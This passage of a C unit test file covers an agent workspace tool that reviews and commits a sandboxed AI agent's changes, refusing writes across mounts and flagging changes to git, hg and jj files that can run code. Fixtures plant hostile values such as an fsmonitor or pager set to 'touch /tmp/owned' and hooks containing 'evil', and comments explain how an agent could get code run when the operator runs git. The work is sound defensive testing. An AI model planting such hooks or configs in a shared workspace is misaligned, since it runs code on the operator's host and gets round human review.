        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
        put(outside, "precious", "p", 0644);
        mkd(lower, "d", 0755);
        put(lower, "d/x", "x", 0644);
        mkd(lower, "d/mnt", 0755);
        /* Same filesystem, another mount: only the mount id tells them apart. */
        cr_assert_eq(mount(outside, at(lower, "d/mnt"), NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
        whiteout("d");
        /* An fd opened before unshare() walks the old namespace's mounts, without the bind. */
        close(lower_fd);
        lower_fd = open(lower, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(lower_fd, 0);

        AjWsStats s;
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err);
        umount2(at(lower, "d/mnt"), MNT_DETACH);
        cr_assert_eq(r, -EXDEV, "r = %d %s", r, aj_error_text(&err, r));
        cr_assert_not_null(strstr(err.message, "'d'"), "%s", err.message);
        aj_error_clear(&err);
        assert_content(outside, "precious", "p");
}

/* A file bind-mounted below a directory the agent removed: the dry pass that refuses a
 * removal across a mount before anything is applied (check_removals) looked only at
 * directories, so the commit began (the changes before it applied, the file's siblings
 * removed) and failed on the mount point (EBUSY) half applied. Now it is refused before
 * anything is applied. */
Test(workspace, removal_refuses_a_file_mount_before_anything)
{
        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
        put(outside, "precious", "p", 0644);
        mkd(lower, "d", 0755);
        put(lower, "d/a", "a", 0644);
        put(lower, "d/f", "under", 0644);
        put(lower, "d/z", "z", 0644);
        cr_assert_eq(mount(at(outside, "precious"), at(lower, "d/f"), NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
        whiteout("d");
        put(upper, "b", "before d\n", 0644); /* applied first, in path order */
        put(upper, "plain", "fine\n", 0644);
        close(lower_fd);
        lower_fd = open(lower, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(lower_fd, 0);

        AjWsStats s;
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err);
        umount2(at(lower, "d/f"), MNT_DETACH);
        cr_assert_eq(r, -EXDEV, "r = %d %s", r, aj_error_text(&err, r));
        aj_error_clear(&err);
        assert_content(outside, "precious", "p");
        assert_content(lower, "d/a", "a");
        assert_content(lower, "d/z", "z");
        cr_expect_neq(access(at(lower, "b"), F_OK), 0, "nothing applied, not even what comes before");
        cr_expect_neq(access(at(lower, "plain"), F_OK), 0, "nothing else applied");
}

/* Whether a directory above a change is one git takes for a repository (it holds a HEAD) is
 * asked once per directory, not once per change below it: an agent's 200 levels of
 * "hooks/hooks/..." (a name git reads in a gitdir, at every level) over 10,000 files took 4
 * million opens and 29 s of the operator's diff, and commit diffs again. */
Test(workspace, gitdir_lookups_once_per_directory)
{
        int dir = dup(upper_fd);
        for (int i = 0; i < 200; i++) {
                cr_assert_eq(mkdirat(dir, "hooks", 0755), 0);
                int sub = openat(dir, "hooks", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                cr_assert_geq(sub, 0);
                close(dir);
                dir = sub;
        }
        for (int i = 0; i < 5000; i++) {
                char name[16];
                snprintf(name, sizeof(name), "f%d", i);
                int fd = openat(dir, name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
                cr_assert_geq(fd, 0);
                close(fd);
        }
        close(dir);
        /* Siblings around it: one a bare repository, one not; each judged on its own. */
        mkd(upper, "bare", 0755);
        put(upper, "bare/HEAD", "ref: refs/heads/main\n", 0644);
        mkd(upper, "bare/hooks", 0755);
        put(upper, "bare/hooks/pre-commit", "evil\n", 0755);
        mkd(upper, "plain", 0755);
        mkd(upper, "plain/hooks", 0755);
        put(upper, "plain/hooks/pre-commit", "fine\n", 0755);
        struct timespec t0, t1;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        clock_gettime(CLOCK_MONOTONIC, &t1);
        double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
        /* 14 s when asked per change; 0.1 s here once per directory. */
        cr_expect_lt(secs, 3.0, "the diff took %.1f s", secs);
        cr_expect_eq(n, 5207);
        for (size_t i = 0; i < n; i++)
                cr_expect_eq(c[i].git_code != NULL,
                             streq(c[i].path, "bare/hooks") || streq(c[i].path, "bare/hooks/pre-commit"), "%s: %s",
                             c[i].path, c[i].git_code ?: "-");
        aj_ws_changes_free(c, n);
}

/* A chmod is a change the review must show: "M  d/" and "M  f" said nothing of a directory
 * or a root-owned file made writable by everyone, which the commit applied. Each change
 * carries the mode commit gives it, the workspace's when it differs, and whether everyone
 * may write it. */
Test(workspace, mode_changes_shown)
{
        mkd(lower, "d", 0755);
        put(lower, "f", "same\n", 0644);
        put(lower, "suid", "s\n", 04755);
        put(lower, "plain", "p\n", 0644);
        mkd(upper, "d", 0777);
        put(upper, "f", "same\n", 0666);
        put(upper, "suid", "s\n", 04755);
        put(upper, "plain", "changed\n", 0644);
        mkd(upper, "tmp", 01777);
        put(upper, "private", "x\n", 0600);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 6);
        static const struct {
                const char *path;
                mode_t mode, was; /* was 0: unchanged */
                bool writable;
        } want[] = {
                { "d", 0777, 0755, true },     { "f", 0666, 0644, true },      { "plain", 0644, 0, false },
                { "private", 0600, 0, false }, { "suid", 0755, 04755, false }, { "tmp", 01777, 0, true },
        };
        for (size_t i = 0; i < n; i++) {
                cr_assert_str_eq(c[i].path, want[i].path);
                cr_expect(c[i].has_mode, "%s", c[i].path);
                cr_expect_eq(c[i].mode, want[i].mode, "%s: %o", c[i].path, (unsigned)c[i].mode);
                cr_expect_eq(c[i].mode_changed, want[i].was != 0, "%s", c[i].path);
                if (want[i].was)
                        cr_expect_eq(c[i].mode_was, want[i].was, "%s: was %o", c[i].path, (unsigned)c[i].mode_was);
                cr_expect_eq((c[i].mode & S_IWOTH) != 0, want[i].writable, "%s", c[i].path);
        }
        json_t *o = aj_ws_change_json(&c[0]);
        char *one = json_dumps(o, JSON_COMPACT);
        cr_expect_str_eq(one, "{\"path\":\"d\",\"change\":\"modified\",\"type\":\"dir\",\"size\":0,"
                              "\"conflict\":false,\"mode\":\"0777\",\"mode_was\":\"0755\",\"writable_by_all\":true}");
        free(one);
        json_decref(o);
        aj_ws_changes_free(c, n);

        AjWsStats s = commit(0, false);
        cr_expect_eq(s.writable_by_all, 3);
        cr_expect_eq(lstat_of(lower, "d").st_mode & 07777, 0777, "what the diff said is what commit did");
        cr_expect_eq(lstat_of(lower, "f").st_mode & 07777, 0666);
        cr_expect_eq(lstat_of(lower, "suid").st_mode & 07777, 0755);
}

/* A host mount in the workspace (a root-owned directory bound in): the agent's overlay showed
 * the directory under it, so what it wrote there is not what it saw. A commit wrote its
 * files into the mounted directory, replaced a file there it had never seen and chmodded the
 * mounted directory: each such change is marked, and the commit refuses them all, nothing
 * applied. */
Test(workspace, writes_never_cross_a_mount)
{
        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
        put(outside, "existing", "host's\n", 0644);
        mkd(lower, "mnt", 0755);
        put(lower, "bound", "under\n", 0644);
        /* Same filesystem, bind mounts: only the mount tells them apart. */
        cr_assert_eq(mount(outside, at(lower, "mnt"), NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
        cr_assert_eq(mount(at(outside, "existing"), at(lower, "bound"), NULL, MS_BIND, NULL), 0, "%s", strerror(errno));
        close(lower_fd);
        lower_fd = open(lower, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(lower_fd, 0);
        mkd(upper, "mnt", 0777);
        put(upper, "mnt/existing", "agent's\n", 0644);
        put(upper, "mnt/planted", "agent's\n", 0644);
        put(upper, "bound", "agent's\n", 0644);
        put(upper, "plain", "fine\n", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        cr_assert_eq(n, 5);
        static const struct {
                const char *path;
                size_t mount_at;
        } want[] = { { "bound", 5 }, { "mnt", 3 }, { "mnt/existing", 3 }, { "mnt/planted", 3 }, { "plain", 0 } };
        for (size_t i = 0; i < n; i++) {
                cr_expect_str_eq(c[i].path, want[i].path);
                cr_expect_eq(c[i].mount_at, want[i].mount_at, "%s: %zu", c[i].path, c[i].mount_at);
        }
        json_t *o = aj_ws_change_json(&c[3]);
        char *one = json_dumps(o, JSON_COMPACT);
        cr_expect_str_eq(one, "{\"path\":\"mnt/planted\",\"change\":\"added\",\"type\":\"file\",\"size\":8,"
                              "\"conflict\":false,\"mode\":\"0644\",\"mount_point\":\"mnt\"}");
        free(one);
        json_decref(o);
        aj_ws_changes_free(c, n);

        AjWsStats s;
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err);
        cr_expect_eq(r, -EXDEV, "r = %d %s", r, aj_error_text(&err, r));
        cr_expect_not_null(err.message && strstr(err.message, "'bound' in the workspace is a mount point"), "%s",
                           err.message);
        aj_error_clear(&err);
        umount2(at(lower, "bound"), MNT_DETACH);
        umount2(at(lower, "mnt"), MNT_DETACH);
        assert_content(outside, "existing", "host's\n");
        cr_expect(!exists(outside, "planted"));
        cr_expect_eq(lstat_of(outside, ".").st_mode & 07777, 0755);
        cr_expect(!exists(lower, "plain"), "nothing was applied");
}

/* An agent's sparse file stays sparse in the workspace: a commit writes its data, not its
 * holes (a 1 GiB file with 8 KiB in it must not become 1 GiB written). */
Test(workspace, commit_keeps_a_sparse_file_sparse)
{
        const uint64_t size = 1ull << 30;
        int fd = open(at(upper, "sparse.bin"), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        cr_assert_geq(fd, 0);
        cr_assert_eq(pwrite(fd, "head", 4, 0), 4);
        cr_assert_eq(pwrite(fd, "middle", 6, 512ll << 20), 6);
        cr_assert_eq(ftruncate(fd, (off_t)size), 0);
        close(fd);

        AjWsChange *v = NULL;
        size_t n = diff(&v, 0);
        cr_assert_eq(n, 1);
        cr_expect_eq(v[0].size, size);
        cr_expect_lt(v[0].allocated, 1u << 20, "allocated %llu", (unsigned long long)v[0].allocated);
        aj_ws_changes_free(v, n);

        commit(0, false);
        struct stat st;
        cr_assert_eq(stat(at(lower, "sparse.bin"), &st), 0);
        cr_expect_eq((uint64_t)st.st_size, size);
        cr_expect_lt((uint64_t)st.st_blocks * 512, 1u << 20, "the copy has %llu bytes on disk",
                     (unsigned long long)st.st_blocks * 512);
        char buf[8] = { 0 };
        fd = open(at(lower, "sparse.bin"), O_RDONLY | O_CLOEXEC);
        cr_assert_geq(fd, 0);
        cr_expect_eq(pread(fd, buf, 4, 0), 4);
        cr_expect_eq(memcmp(buf, "head", 4), 0);
        cr_expect_eq(pread(fd, buf, 6, 512ll << 20), 6);
        cr_expect_eq(memcmp(buf, "middle", 6), 0);
        cr_expect_eq(pread(fd, buf, 4, 4096), 4);
        cr_expect_eq(memcmp(buf, "\0\0\0\0", 4), 0);
        close(fd);
}

/* The workspace as a small tmpfs of its own (a private mount namespace: it goes with the
 * test's process), lower_fd reopened on it. */
static void small_lower(const char *options)
{
        if (unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                cr_assert_fail("unshare(CLONE_NEWNS) failed: %s (the unit tests need root)", strerror(errno));
        cr_assert_eq(mount("aj-ws-test", lower, "tmpfs", 0, options), 0, "%s", strerror(errno));
        lower_mounted = true;
        close(lower_fd);
        lower_fd = open(lower, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        cr_assert_geq(lower_fd, 0);
}

static void put_random(const char *base, const char *rel, size_t size)
{
        char buf[4096];
        int fd = open(at(base, rel), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        cr_assert_geq(fd, 0);
        for (size_t done = 0; done < size; done += sizeof(buf)) {
                for (size_t k = 0; k < sizeof(buf); k++)
                        buf[k] = (char)rand();
                cr_assert_eq(write(fd, buf, sizeof(buf)), (ssize_t)sizeof(buf));
        }
        close(fd);
}

static size_t entries_in(const char *dir)
{
        DIR *d = opendir(dir);
        cr_assert_not_null(d);
        size_t n = 0;
        for (struct dirent *de; (de = readdir(d));)
                n += de->d_name[0] != '.';
        closedir(d);
        return n;
}

/* Names hardlinked in the upper dir are one file there and one each once committed: 2 MiB
 * there, 10 MiB in a workspace of 8. The commit says so before it writes anything, instead
 * of stopping half way at ENOSPC (as root, in root's reserve). */
Test(workspace, commit_needs_room_first)
{
        small_lower("size=8m");
        put_random(upper, "big", 2u << 20);
        for (int i = 1; i < 5; i++) {
                char name[16];
                snprintf(name, sizeof(name), "link%d", i);
                cr_assert_eq(link(at(upper, "big"), at(upper, name)), 0, "%s", strerror(errno));
        }
        put(upper, "small", "s", 0644);
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, 0, 0, NULL, &err);
        cr_assert_eq(r, -ENOSPC, "r = %d %s", r, aj_error_text(&err, r));
        cr_expect_not_null(strstr(err.message, "need 10.0 MiB"), "%s", err.message);
        cr_expect_not_null(strstr(err.message, "nothing was applied"), "%s", err.message);
        aj_error_clear(&err);
        cr_expect_eq(entries_in(lower), 0, "nothing was written");

        cr_assert_eq(unlink(at(upper, "link4")), 0);
        cr_assert_eq(unlink(at(upper, "link3")), 0);
        AjWsStats s = commit(0, false);
        cr_expect_eq(s.added, 4);
        cr_expect_eq(lstat_of(lower, "link2").st_size, 2u << 20);
}

/* The same for inodes: more entries than the workspace's filesystem has left. */
Test(workspace, commit_needs_inodes_first)
{
        small_lower("size=8m,nr_inodes=16");
        mkd(upper, "d", 0755);
        for (int i = 0; i < 20; i++) {
                char name[16];
                snprintf(name, sizeof(name), "d/f%d", i);
                put(upper, name, "", 0644);
        }
        AjError err = {};
        int r = aj_ws_commit(upper_fd, lower_fd, 0, 0, NULL, &err);
        cr_assert_eq(r, -ENOSPC, "r = %d %s", r, aj_error_text(&err, r));
        cr_expect_not_null(strstr(err.message, "21 entries"), "%s", err.message);
        aj_error_clear(&err);
        cr_expect_eq(entries_in(lower), 0, "nothing was written");
}

/* git's own files: what git on the host may run code from when the operator runs it in the
 * workspace (`git status` to review the agent's work runs core.fsmonitor). */
Test(workspace, git_code_paths)
{
        static const char *const flagged[] = {
                ".git/config",
                ".git/hooks/post-checkout",
                ".git/hooks",
                ".git/commondir",
                ".git/config.worktree",
                ".git/modules/lib/config",
                ".git/modules/lib/hooks/pre-commit",
                ".git/worktrees/w/commondir",
                ".git/rebase-merge/git-rebase-todo",
                ".git/info/attributes",
                ".git/unknown-new-file",
                "sub/.git/config",
                "a/b/.GIT/hooks/x",
                ".Git/config",
                ".hg/hgrc",
                ".HG/HGRC",
                ".hg/requires",
                ".hg/sharedpath",
                ".hg/hgrc-not-shared",
                "sub/.hg/hgrc",
                ".git/hooks/x.sample/y",
                ".git/hooks/.sample",
                ".jj/repo/config.toml",
                ".JJ/repo/config.toml",
                ".jj/repo/config-id",
                ".jj/repo/storex",
                ".jj/config.toml",
                "sub/.jj/repo/config.toml",
                ".jj/repo/store/git_target",
                ".JJ/repo/store/git_target",
        };
        for (size_t i = 0; i < ARRAY_SIZE(flagged); i++)
                cr_expect_not_null(aj_ws_path_git_code(flagged[i], S_IFREG), "%s is flagged", flagged[i]);
        cr_expect_not_null(aj_ws_path_git_code(".git", S_IFREG), "a .git file (gitdir: elsewhere) is flagged");
        cr_expect_not_null(aj_ws_path_git_code("sub/.git", S_IFLNK), "a .git symlink is flagged");
        cr_expect_not_null(aj_ws_path_git_code(".hg", S_IFREG), "an .hg file is flagged");
        cr_expect_not_null(aj_ws_change_git_code(".hg", AJ_WS_DELETED, S_IFDIR), "an .hg removed is flagged");
        /* Jujutsu: jj before its secure config ran `fix.tools`, aliases and a pager from the
         * repository's .jj/repo/config.toml (its "zip file problem"); a workspace's .jj/repo
         * file sends jj to another repository's. */
        cr_expect_not_null(aj_ws_path_git_code(".jj", S_IFREG), "a .jj file is flagged");
        cr_expect_not_null(aj_ws_path_git_code(".jj/repo", S_IFREG),
                           "a .jj/repo file (another repository's) is flagged");
        cr_expect_not_null(aj_ws_change_git_code(".jj", AJ_WS_REPLACED, S_IFDIR), "a .jj replaced is flagged");
        /* jj's git backend works in the repository its store's git_target names ("git", the
         * store's own, or the colocated ../../../.git): `jj git fetch` runs git there, which
         * reads that repository's config (core.sshCommand). Pointed elsewhere (a repository
         * the agent made outside the workspace, in another rw bind), by git_target or by a
         * symlink in the store's place, it is another repository's config. */
        cr_expect_not_null(aj_ws_path_git_code(".jj/repo/store/git", S_IFLNK), "a symlink in jj's store is flagged");
        cr_expect_not_null(aj_ws_path_git_code(".jj/working_copy/x", S_IFLNK), "a symlink below .jj is flagged");

        static const char *const data[] = {
                ".git/objects/ab/cdef",
                ".git/refs/heads/config",
                ".git/refs/heads/hooks/x",
                ".git/logs/refs/heads/main",
                ".git/index",
                ".git/HEAD",
                ".git/COMMIT_EDITMSG",
                ".git/packed-refs",
                ".git/info/exclude",
                ".git/hooks/pre-commit.sample",
                "src/config",
                "hooks/post-checkout",
                "x.git/config",
                ".gitignore",
                ".gitmodules",
                "docs/.github/workflows/ci.yml",
                ".hg/store/data/a.i",
                ".hg/dirstate",
                ".hg/cache/branch2-served",
                ".hg/undo.desc",
                ".hg/last-message.txt",
                ".jj/repo/store/type",
                ".jj/repo/op_store/operations/ab",
                ".jj/repo/op_heads/heads/cd",
                ".jj/repo/index/segments/ef",
                ".jj/working_copy/tree_state",
        };
        for (size_t i = 0; i < ARRAY_SIZE(data); i++)
                cr_expect_null(aj_ws_path_git_code(data[i], S_IFREG), "%s is not flagged", data[i]);
        cr_expect_null(aj_ws_path_git_code(".git", S_IFDIR), "the directory itself: its files are judged");
        cr_expect_null(aj_ws_path_git_code(".git/objects", S_IFDIR));
}

/* A planted hook and a config change: commit refuses them without a decision (nothing
 * applied), applies them with INCLUDE_GIT, leaves them (and what is below a left-out
 * directory) out with EXCLUDE_GIT and applies the rest. */
static void plant_git_changes(void)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[core]\n", 0644);
        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
        mkd(upper, ".git", 0755);
        put(upper, ".git/config", "[core]\n\tfsmonitor = touch /tmp/owned\n", 0644);
        put(upper, ".git/COMMIT_EDITMSG", "msg\n", 0644);
        mkd(upper, ".git/hooks", 0755);
        put(upper, ".git/hooks/post-checkout", "#!/bin/sh\nevil\n", 0755);
        put(upper, ".git/hooks/pre-push.sample", "#!/bin/sh\n", 0755);
        put(upper, "work.txt", "done", 0644);
}

Test(workspace, git_code_needs_a_decision)
{
        plant_git_changes();
        AjWsChange *c = NULL;
        size_t n = diff(&c, 0), flagged = 0;
        for (size_t i = 0; i < n; i++)
                flagged += c[i].git_code != NULL;
        cr_expect_eq(flagged, 3, "config, hooks/ and the hook (not the sample, not COMMIT_EDITMSG)");
        json_t *j = aj_ws_changes_json(c, n);
        cr_assert_not_null(j);
        size_t i;
        json_t *o;
        bool hook_marked = false;
        json_array_foreach (j, i, o)
                if (streq(json_string_value(json_object_get(o, "path")), ".git/hooks/post-checkout"))
                        hook_marked = json_is_string(json_object_get(o, "git_code"));
        cr_expect(hook_marked, "diff --json says why");
        json_decref(j);
        aj_ws_changes_free(c, n);

        AjError err = {};
        AjWsStats s;
        cr_assert_eq(aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err), -EPERM);
        cr_expect(strstr(err.message, "3 changes to git's own files (first: .git/config)"), "%s", err.message);
        aj_error_clear(&err);
        cr_expect_not(exists(lower, "work.txt"), "nothing applied");
        assert_content(lower, ".git/config", "[core]\n");
}

Test(workspace, git_code_excluded)
{
        plant_git_changes();
        AjError err = {};
        AjWsStats s;
        int r = aj_ws_commit(upper_fd, lower_fd, 0, AJ_WS_COMMIT_EXCLUDE_GIT, &s, &err);
        cr_assert_eq(r, 0, "%s", aj_error_text(&err, r));
        cr_expect_eq(s.git_excluded, 4, "config, hooks/, the hook and the sample below the left-out hooks/");
        cr_expect_eq(s.added, 2, "COMMIT_EDITMSG and work.txt");
        assert_content(lower, "work.txt", "done");
        assert_content(lower, ".git/config", "[core]\n");
        cr_expect_not(exists(lower, ".git/hooks"));
}

Test(workspace, git_code_included)
{
        plant_git_changes();
        AjError err = {};
        AjWsStats s;
        int r = aj_ws_commit(upper_fd, lower_fd, 0, AJ_WS_COMMIT_INCLUDE_GIT, &s, &err);
        cr_assert_eq(r, 0, "%s", aj_error_text(&err, r));
        cr_expect_eq(s.git_code, 3);
        assert_content(lower, ".git/hooks/post-checkout", "#!/bin/sh\nevil\n");
        assert_content(lower, ".git/config", "[core]\n\tfsmonitor = touch /tmp/owned\n");
}

/* A bare repository (or a gitdir not named .git) in the workspace: its config is marked
 * when the directory holds HEAD, objects and refs after the run, in either tree; an
 * ordinary "config" file is not. */
Test(workspace, git_code_in_a_bare_repository)
{
        mkd(lower, "srv", 0755);
        mkd(lower, "srv/repo.git", 0755);
        put(lower, "srv/repo.git/HEAD", "ref: refs/heads/main\n", 0644);
        mkd(lower, "srv/repo.git/objects", 0755);
        mkd(lower, "srv/repo.git/refs", 0755);
        put(lower, "srv/repo.git/config", "[core]\n\tbare = true\n", 0644);
        mkd(upper, "srv", 0755);
        mkd(upper, "srv/repo.git", 0755);
        put(upper, "srv/repo.git/config", "[core]\n\tfsmonitor = evil\n", 0644);
        /* On a case-folding directory git opens CONFIG for config. */
        put(upper, "srv/repo.git/CONFIG", "[core]\n\tfsmonitor = evil\n", 0644);
        /* One planted whole by the agent, at the workspace's root. */
        put(upper, "HEAD", "ref: refs/heads/x\n", 0644);
        mkd(upper, "objects", 0755);
        mkd(upper, "refs", 0755);
        mkd(upper, "hooks", 0755);
        put(upper, "hooks/post-update", "evil\n", 0755);
        /* Not a repository: a plain config file. */
        mkd(upper, "app", 0755);
        put(upper, "app/config", "port=1\n", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        for (size_t i = 0; i < n; i++) {
                bool want = streq(c[i].path, "srv/repo.git/config") || streq(c[i].path, "srv/repo.git/CONFIG") ||
                            streq(c[i].path, "hooks") || streq(c[i].path, "hooks/post-update");
                cr_expect_eq(c[i].git_code != NULL, want, "%s: git_code %s", c[i].path, c[i].git_code ?: "none");
        }
        json_t *j = aj_ws_changes_json(c, n);
        size_t i;
        json_t *o;
        json_array_foreach (j, i, o)
                if (streq(json_string_value(json_object_get(o, "path")), "srv/repo.git/config"))
                        cr_expect(strstr(json_string_value(json_object_get(o, "git_code")) ?: "", "repository"));
        json_decref(j);
        aj_ws_changes_free(c, n);
}

/* After an rw run: git's own files of the workspace's repository changed since its start,
 * by ctime; the object store, refs and logs are not looked into; a .git that is not a
 * directory counts when it changed; past the entry bound the look says it was cut. */
Test(workspace, git_changed_in_place)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/config", "[core]\n", 0644);
        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
        mkd(lower, ".git/hooks", 0755);
        put(lower, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
        mkd(lower, ".git/refs", 0755);
        usleep(20000);
        uint64_t since = now_ns();
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_expect_null(found, "nothing changed since");

        usleep(20000);
        put(lower, ".git/refs/main", "0000\n", 0644); /* data: not looked at */
        put(lower, ".git/HEAD", "ref: refs/heads/x\n", 0644);
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_expect_null(found, "a branch and HEAD are git's data, not its commands");

        put(lower, ".git/hooks/post-checkout", "evil\n", 0755);
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect_eq(json_integer_value(json_object_get(found, "count")), 2, "the hook and hooks/ itself");
        cr_expect_str_eq(json_string_value(json_array_get(json_object_get(found, "paths"), 1)),
                         ".git/hooks/post-checkout");
        cr_expect(json_is_false(json_object_get(found, "cut")));
        json_decref(found);

        /* A .git that is a file (gitdir: elsewhere) made during the run. */
        char cmd[256];
        snprintf(cmd, sizeof(cmd), "rm -rf '%s/.git'", lower);
        cr_assert_eq(system(cmd), 0);
        put(lower, ".git", "gitdir: /elsewhere\n", 0644);
        cr_assert_eq(aj_ws_git_changed(lower_fd, since, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect_str_eq(json_string_value(json_array_get(json_object_get(found, "paths"), 0)), ".git");
        json_decref(found);
}

Test(workspace, git_changed_bounded)
{
        mkd(lower, ".git", 0755);
        mkd(lower, ".git/hooks", 0755);
        char name[64];
        for (int i = 0; i < AJ_WS_GIT_MAX_ENTRIES + 10; i++) {
                snprintf(name, sizeof(name), ".git/hooks/h%d", i);
                put(lower, name, "", 0644);
        }
        json_t *found = NULL;
        cr_assert_eq(aj_ws_git_changed(lower_fd, 1, NULL, &found), 0);
        cr_assert_not_null(found);
        cr_expect(json_is_true(json_object_get(found, "cut")), "the look stops at its bound and says so");
        cr_expect_eq(json_array_size(json_object_get(found, "paths")), AJ_WS_GIT_SHOWN);
        json_decref(found);
}

/* A gitdir with a HEAD whose objects and refs are elsewhere (its commondir names them),
 * at the root where the operator runs git: .git spoilt (its HEAD is data), a HEAD and a
 * commondir at the root naming the agent's own directory with objects, refs and a config
 * (core.pager: `git log` on a terminal ran it, git 2.39). The commondir is marked. */
Test(workspace, git_code_in_a_gitdir_with_a_commondir)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
        mkd(lower, ".git/objects", 0755);
        mkd(lower, ".git/refs", 0755);
        mkd(upper, ".git", 0755);
        put(upper, ".git/HEAD", "garbage\n", 0644);
        put(upper, "HEAD", "ref: refs/heads/main\n", 0644);
        put(upper, "commondir", "c\n", 0644);
        mkd(upper, "c", 0755);
        mkd(upper, "c/objects", 0755);
        mkd(upper, "c/refs", 0755);
        put(upper, "c/config", "[core]\n\tpager = touch /tmp/owned; cat\n", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        bool marked = false;
        for (size_t i = 0; i < n; i++)
                if (streq(c[i].path, "commondir"))
                        marked = c[i].git_code != NULL;
        cr_expect(marked, "the root's commondir is marked");
        aj_ws_changes_free(c, n);

        AjError err = {};
        AjWsStats s;
        cr_expect_eq(aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err), -EPERM);
        aj_error_clear(&err);
        cr_expect_not(exists(lower, "commondir"), "nothing applied");
}

/* The .git directory deleted or replaced by an opaque one takes the workspace's config
 * and hooks with it: marked, and --exclude-git leaves the workspace's .git as it was
 * (not emptied under the agent's HEAD, objects and refs). */
Test(workspace, git_code_git_dir_replaced_or_deleted)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/HEAD", "ref: refs/heads/main\n", 0644);
        put(lower, ".git/config", "[core]\n\thooksPath = /etc/org-hooks\n", 0644);
        mkd(lower, "sub", 0755);
        mkd(lower, "sub/.git", 0755);
        put(lower, "sub/.git/config", "[core]\n", 0644);
        mkd(upper, ".git", 0755);
        opaque(".git");
        put(upper, ".git/HEAD", "ref: refs/heads/x\n", 0644);
        mkd(upper, ".git/objects", 0755);
        mkd(upper, "sub", 0755);
        whiteout("sub/.git");
        put(upper, "work.txt", "done", 0644);

        AjWsChange *c = NULL;
        size_t n = diff(&c, 0);
        for (size_t i = 0; i < n; i++) {
                bool want = streq(c[i].path, ".git") || streq(c[i].path, "sub/.git");
                cr_expect_eq(c[i].git_code != NULL, want, "%s: git_code %s", c[i].path, c[i].git_code ?: "none");
        }
        aj_ws_changes_free(c, n);

        AjError err = {};
        AjWsStats s;
        cr_expect_eq(aj_ws_commit(upper_fd, lower_fd, 0, 0, &s, &err), -EPERM);
        aj_error_clear(&err);
        cr_expect_not(exists(lower, "work.txt"), "nothing applied");

        int r = aj_ws_commit(upper_fd, lower_fd, 0, AJ_WS_COMMIT_EXCLUDE_GIT, &s, &err);
        cr_assert_eq(r, 0, "%s", aj_error_text(&err, r));
        cr_expect_eq(s.git_excluded, 4, ".git, its HEAD and objects, sub/.git");
        assert_content(lower, ".git/config", "[core]\n\thooksPath = /etc/org-hooks\n");
        assert_content(lower, ".git/HEAD", "ref: refs/heads/main\n");
        assert_content(lower, "sub/.git/config", "[core]\n");
        assert_content(lower, "work.txt", "done");
}

/* Paths the workspace repository's own config (in lower: the operator's) sends git to:
 * core.hooksPath (husky's .husky/_), a file it includes (../.gitconfig, and what that
 * one includes), a command's script (core.fsmonitor = tools/fsmon.sh). git 2.39 ran the
 * agent's hook, include (core.fsmonitor) and script there on commit and status. Changes
 * there, or to a directory above one that sends git elsewhere (a symlink), are marked;
 * a refspec, a URL, a branch's merge ref and unrelated files are not. */
Test(workspace, git_code_named_by_the_config)
{
        mkd(lower, ".git", 0755);
        put(lower, ".git/config",
            "[core]\n\thooksPath = .husky/_ ; husky\n\tfsmonitor = \"sh tools/fsmon.sh\"\n"
            "[include]\n\tpath = ../.gitconfig\n"
            "[remote \"origin\"]\n\turl = git@example.com:org/repo.git\n"
            "\tfetch = +refs/heads/*:refs/remotes/origin/*\n"
            "[branch \"main\"]\n\tmerge = refs/heads/main\n",
            0644);
